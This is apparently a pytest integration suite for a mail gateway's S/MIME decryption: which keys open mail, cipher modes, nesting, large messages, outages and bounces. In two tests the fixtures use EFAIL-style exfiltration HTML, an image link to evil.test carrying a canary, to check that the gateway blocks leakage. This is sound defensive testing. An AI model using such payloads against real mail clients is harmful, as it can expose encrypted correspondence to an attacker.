"""
What comes in as S/MIME, made by OpenSSL, is decrypted for those whose key it is, and for nobody else.
"""

import base64
import email
from collections.abc import Iterator

import pytest
from lab.letter import canary, letter, multipart, part
from lab.place import short_folder
from lab.sink import Received
from lab.smime import Smime
from lab.town import OWN, Town
from lab.wait import until

pytestmark = [pytest.mark.real, pytest.mark.timeout(240)]

KIM, DOC, SUE = "kim@plain.test", f"doc@{OWN}", f"sue@{OWN}"
NOT_OURS = "eve@other.test"


@pytest.fixture(scope="module")
def smime(shared_town: Town) -> Iterator[Smime]:
    """Give doc's and the domain's certificates, whose private halves the site holds, and an outsider's."""
    with short_folder() as folder:
        people = Smime(folder / "smime")
        for address, kind in ((DOC, "rsa"), (OWN, "p256"), (NOT_OURS, "rsa")):
            people.certificate(address, kind)
        shared_town.site.gatepost("key", "import", "--private", people.private(DOC))
        shared_town.site.gatepost("key", "import", "--private", people.private(OWN), "--for", OWN)
        yield people
        for row in shared_town.site.json("key", "list")["keys"]:
            if row["kind"] == "smime" and row["own"]:
                shared_town.site.gatepost("key", "remove", row["fingerprint"])


def entity(word: str) -> bytes:
    return f"Content-Type: text/plain; charset=utf-8\r\n\r\n{word} Gr\u00fc\u00dfe\r\n.dot\r\n".encode()


def enclosed(cms: bytes, kind: str = "authEnveloped-data", *, to: str = DOC) -> bytes:
    """Write a message around CMS, from kim."""
    line = f"Content-Type: application/pkcs7-mime; smime-type={kind}; name=smime.p7m"
    fields = ("MIME-Version: 1.0", line, "Content-Transfer-Encoding: base64")
    return letter(base64.encodebytes(cms).replace(b"\n", b"\r\n"), sender=KIM, to=to, fields=fields)


def arrived(town: Town, message: bytes, *recipients: str) -> dict[str, Received]:
    """Have a message come in, and give what each recipient got."""
    town.clear()
    assert town.send_from_outside(KIM, *recipients, message=message).ok
    town.inside.wait_for_recipients(recipients)
    return {address: message for message in town.inside.messages for address in message.addresses}


def result(message: Received) -> str:
    (found,) = message.values("Gatepost-Result")
    return found


@pytest.mark.parametrize("options", [("-aes-256-gcm",), ("-aes-128-gcm", "-stream"), ("-aes-256-gcm", "-keyid")])
@pytest.mark.parametrize("whom", [DOC, OWN])
def test_decrypted(the_town: Town, smime: Smime, options: tuple[str, ...], whom: str) -> None:
    """In DER and streamed, to a person's key and to the domain's: what arrives is what was encrypted."""
    word = canary()
    cms = smime.encrypt(entity(word), NOT_OURS, whom, options=options)
    got = arrived(the_town, enclosed(cms), DOC)[DOC]

    assert got.body == f"{word} Gr\u00fc\u00dfe\r\n.dot\r\n".encode()
    assert got.values("Content-Type") == ["text/plain; charset=utf-8"]
    assert got.values("Content-Transfer-Encoding") == []
    assert "decrypted=smime; signed=none;" in result(got)
    assert "unauthenticated" in result(got)


@pytest.mark.parametrize("options", [("-aes256",), ("-aes128", "-stream"), ("-aes192", "-keyid")])
def test_unproved_content(the_town: Town, smime: Smime, options: tuple[str, ...]) -> None:
    """Content in CBC arrives in clear and harmless: text stays, and nothing in it or beside it can send it."""
    word = canary()
    html = f'<p>{word}</p><img src="http://evil.test/{word}">'.encode()
    line, body = multipart("mixed", part(html, "text/html"), part(html, "image/svg+xml"))
    cms = smime.encrypt(line.encode() + b"\r\n\r\n" + body, DOC, options=options)
    got = arrived(the_town, enclosed(cms, "enveloped-data"), DOC)[DOC]
    first, second = email.message_from_bytes(got.data).get_payload()

    assert first.get_payload(decode=True) == f"<p>{word}</p>".encode()
    assert (second.get_content_type(), second.get_content_disposition()) == (
        "application/octet-stream",
        "attachment",
    )
    assert "decrypted=smime; signed=none;" in result(got)
    assert "unauthenticated,neutralised" in result(got)


@pytest.mark.parametrize("options", [(), ("-stream",)])
def test_signed_inside_unproved_content(the_town: Town, smime: Smime, options: tuple[str, ...]) -> None:
    """Of a message signed and then encrypted in CBC the signed text arrives; by whom it is, nobody here knows."""
    opaque = part(
        smime.sign(entity(word := canary()), NOT_OURS, *options), "application/pkcs7-mime; smime-type=signed-data"
    )
    cms = smime.encrypt(opaque, DOC, options=("-aes256",))
    got = arrived(the_town, enclosed(cms, "enveloped-data"), DOC)[DOC]

    assert got.body == entity(word).partition(b"\r\n\r\n")[2]
    assert "signed=fail" in result(got)


def test_what_cannot_be_made_harmless(the_town: Town, smime: Smime) -> None:
    """Content in CBC with a structure that is not understood stays encrypted; triple DES does, unless allowed."""
    word = canary()
    line, body = multipart("x-mixed-replace", part(word.encode(), "text/html"))
    strange = smime.encrypt(line.encode() + b"\r\n\r\n" + body, DOC, options=("-aes256",))
    for cms in (strange, smime.encrypt(entity(word), DOC, options=("-des3",))):
        message = enclosed(cms, "enveloped-data")
        got = arrived(the_town, message, DOC)[DOC]
        assert got.body == message.partition(b"\r\n\r\n")[2]
        assert "undecryptable" in result(got)


def test_only_for_whom_a_key_fits(the_town: Town, smime: Smime) -> None:
    """Of two recipients, the one whose key it is gets it opened; the other gets what came, flagged."""
    message = enclosed(smime.encrypt(entity(word := canary()), DOC))
    got = arrived(the_town, message, DOC, SUE)

    assert word.encode() in got[DOC].body
    assert got[SUE].body == message.partition(b"\r\n\r\n")[2]
    assert "decrypted=no" in result(got[SUE])
    assert "undecryptable" in result(got[SUE])


def test_what_does_not_open(the_town: Town, smime: Smime) -> None:
    """Another's key, a cut or changed message, a wrong label: each arrives as it came, and in no clear text."""
    word = canary()
    cms = smime.encrypt(entity(word), DOC)
    changed = cms[:-40] + bytes([cms[-40] ^ 1]) + cms[-39:]
    for data, flagged in (
        (smime.encrypt(entity(word), NOT_OURS), True),
        (changed, True),
        (cms[:-1], False),
        (smime.sign(entity("to all"), NOT_OURS), False),
    ):
        message = enclosed(data)
        got = arrived(the_town, message, DOC)[DOC]
        assert got.body == message.partition(b"\r\n\r\n")[2]
        assert word.encode() not in got.data
        assert ("undecryptable" in result(got)) is flagged


def test_only_the_outermost_entity(the_town: Town, smime: Smime) -> None:
    """An encrypted part beside foreign HTML is left alone (direct exfiltration)."""
    word = canary()
    inner = enclosed(smime.encrypt(entity(word), DOC))
    encrypted = inner[inner.index(b"Content-Type:") :]
    line, body = multipart("mixed", b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/', encrypted)
    message = letter(body, sender=KIM, to=DOC, fields=["MIME-Version: 1.0", line])
    got = arrived(the_town, message, DOC)[DOC]

    assert got.body == body
    assert word.encode() not in got.data


def test_nested(the_town: Town, smime: Smime) -> None:
    """Encrypted twice, to the person and then to the domain, it is opened twice; what is not ours inside stays."""
    word = canary()
    for inside, opened in ((DOC, True), (NOT_OURS, False)):
        inner = enclosed(smime.encrypt(entity(word), inside))
        start = inner.index(b"Content-Type:")
        got = arrived(the_town, enclosed(smime.encrypt(inner[start:], OWN)), DOC)[DOC]

        assert "decrypted=smime" in result(got)
        assert (word.encode() in got.data) is opened
        assert got.values("Content-Type")[0].startswith("text/plain" if opened else "application/pkcs7-mime")
        assert ("undecryptable" in result(got)) is not opened


def test_large(the_town: Town, smime: Smime) -> None:
    """Five megabytes come out byte for byte."""
    lines = b"".join(b"%071d\r\n" % number for number in range(5 << 20 >> 6))
    got = arrived(the_town, enclosed(smime.encrypt(b"Content-Type: text/plain\r\n\r\n" + lines, DOC)), DOC)[DOC]

    assert got.body == lines


def test_the_key_worker_is_away(the_town: Town, smime: Smime) -> None:
    """Without the key worker encrypted mail waits outside."""
    message = enclosed(smime.encrypt(entity(word := canary()), DOC))
    the_town.site.kill_service("keys")
    outcome = the_town.send_from_outside(KIM, DOC, message=message)
    until(lambda: the_town.site.service_pids("keys"), 30, "the key worker is started again")

    assert outcome.reply.temporary
    until(lambda: the_town.send_from_outside(KIM, DOC, message=message).ok, 30, "it is taken later")
    assert word.encode() in the_town.inside.wait_for(1)[0].body


def test_what_was_confidential_stays_so(the_town: Town, smime: Smime) -> None:
    """The answer to it goes out encrypted, and a bounce of it holds nothing of its body."""
    opened = arrived(the_town, enclosed(smime.encrypt(entity(canary()), DOC)), DOC)[DOC]
    fields = [f"In-Reply-To: {opened.values('Message-ID')[0]}"]
    assert the_town.send(DOC, KIM, message=letter(word := canary(), sender=DOC, to=KIM, fields=fields)).ok
    assert word.encode() in the_town.gpg.decrypt(the_town.outside.wait_for(1)[0].data).data

    the_town.clear()
    the_town.inside.fail("RCPT", "550 5.1.1 no such mailbox")
    message = enclosed(smime.encrypt(entity(word := canary()), DOC))
    assert the_town.send_from_outside(KIM, DOC, message=message).ok
    assert word.encode() not in the_town.outside.wait_for(1)[0].data
